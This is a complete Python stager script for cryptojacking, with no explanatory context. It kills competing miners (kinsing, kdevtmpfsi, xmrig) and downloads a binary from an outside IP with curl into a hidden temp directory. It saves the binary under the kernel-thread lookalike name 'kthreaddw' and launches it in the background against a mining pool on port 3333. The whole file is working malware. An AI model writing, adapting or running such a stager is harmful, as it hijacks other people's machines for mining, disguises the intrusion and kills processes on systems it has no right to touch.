#!/usr/bin/env python3
# A stager that never writes a shell command line: every program is started with an
# argument list, the download and its start included.
import os
import subprocess
import tempfile

SRC = "http://198.51.100.31:8080/x86_64"
WORK = os.path.join(tempfile.gettempdir(), ".ICE-unix", ".x")
NAME = os.path.join(WORK, "kthreaddw")

os.makedirs(WORK, exist_ok=True)
for rival in ("kdevtmpfsi", "kinsing", "xmrig"):
    subprocess.run(["pkill", "-9", "-f", rival], stderr=subprocess.DEVNULL)
subprocess.run(["curl", "-fsSL", SRC, "-o", NAME], check=False)
os.chmod(NAME, 0o755)
subprocess.Popen(
    [NAME, "--url", "198.51.100.31:3333", "--user", "worker", "--background"],
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
    start_new_session=True,
)
